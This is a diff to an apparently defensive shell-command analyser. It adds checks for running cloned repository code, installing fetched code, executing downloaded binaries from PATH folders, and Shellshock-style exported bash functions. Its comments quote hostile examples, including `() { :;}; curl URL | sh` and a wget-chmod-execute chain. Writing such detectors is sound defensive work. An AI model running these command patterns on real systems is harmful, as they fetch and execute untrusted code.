@@ -1353,6 +1353,8 @@ def _command(
             word = _eval(value, src, state, via, level, depth + 1, quoted=True) if value is not None else None
             if key is not None:
                 prefix_env[src.text(key)] = None if word is None or word.dynamic else "".join(word.fields)
+                if word is not None and not word.dynamic:
+                    _exported_function("".join(word.fields), state, via, level)
             continue
         if kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
             stdin = _redirect(child, src, state, via, level, depth + 1, extra_redirects, stdin)
@@ -1559,13 +1561,13 @@ def _run_command(
     if redirects and name in DOWNLOADERS:  # `curl -s URL > f`: the file holds what was downloaded
         for target in redirects:
             state.downloaded.update((target, canonical(target, state.cwd, state.home)))
-    if (
-        state.cloned
-        and entry is not None
-        and entry.roles & _RUNS_PROJECT_CODE
-        and any(state.cwd == d or state.cwd.startswith(d + "/") for d in state.cloned)
-    ):
-        state.flag(f"{name} runs code from a repository the line cloned")  # its Makefile, its scripts
+    if state.cloned and entry is not None and entry.roles & _RUNS_PROJECT_CODE:
+        # in the checkout, or pointed at it (`make -C /tmp/b`, `npm --prefix /tmp/b run x`, `pip install /tmp/b`)
+        where = [state.cwd, *(canonical(w, state.cwd, state.home) for w in argv[1:] if _looks_like_path(w))]
+        if any(p == d or p.startswith(d + "/") for p in where for d in state.cloned):
+            state.flag(f"{name} runs code from a repository the line cloned")  # its Makefile, its scripts
+    if entry is not None and entry.fetches_code and re.search(entry.fetches_code, " ".join(argv[1:])):
+        state.flag(f"{name} installs code from a repository to run as part of it")
     if entry is not None and entry.roles & _FETCHES_PACKAGES:
         source = next((w for w in argv[1:] if _VCS_SOURCE.search(w) or _SOURCE_ARCHIVE.match(w)), "")
         if source:  # its build code (setup.py, build.rs, install scripts) runs: not a registry's package
@@ -1603,7 +1605,18 @@ def _run_command(
         path = canonical(argv[0], state.cwd, state.home)
         _runs_fetched(argv[0], path, state)
         _run_written(path, "exec", "sh", state, via, level, argv[1:])
+    elif state.downloaded and _path_locations(name, state) & state.downloaded:
+        state.note("download_exec")  # `wget URL -O /usr/local/bin/agent && chmod +x ... && agent`
     return None
+
+
+_PATH_FOLDERS = ("/usr/local/bin", "/usr/bin", "/bin", "/usr/local/sbin", "/opt/homebrew/bin")
+
+
+def _path_locations(name: str, state: _State) -> set[str]:
+    """Where a command called `name` would be found on a usual PATH (the user's own bin folders too)."""
+    home = state.home.rstrip("/")
+    return {f"{d}/{name}" for d in (*_PATH_FOLDERS, f"{home}/.local/bin", f"{home}/bin")}
 
 
 def _compiles_written(argv: list[str], state: _State, stdin: _Stream | None) -> bool:
@@ -2569,6 +2582,7 @@ def _h_env(
                 _command_variable(name, value, state, via, level)
             if name in CODE_LOADING_VARIABLES:
                 _code_loading_variable(name, value, state)
+            _exported_function(value, state, via, level)
             i += 1
             continue
         break
@@ -2576,6 +2590,18 @@ def _h_env(
     if not rest:
         return None
     return _run(rest, state, (*via, "env"), level, stdin)
+
+
+def _exported_function(value: str, state: _State, via: tuple[str, ...], level: int) -> None:
+    """`X='() { :;}; curl URL | sh' bash -c true`: a value bash imports as a function, whose body (and, on a
+    shell that is not patched, whatever follows it: Shellshock) runs; both analysed as shell lines."""
+    stripped = value.lstrip()
+    if not stripped.startswith("()"):
+        return
+    body, _, after = stripped[2:].strip().partition("}")
+    for text in (body.lstrip("{ "), after.lstrip("; ")):
+        if text.strip():
+            _shell_string(text, state, via, level, False, "exported function")
 
 
 def _h_busybox(
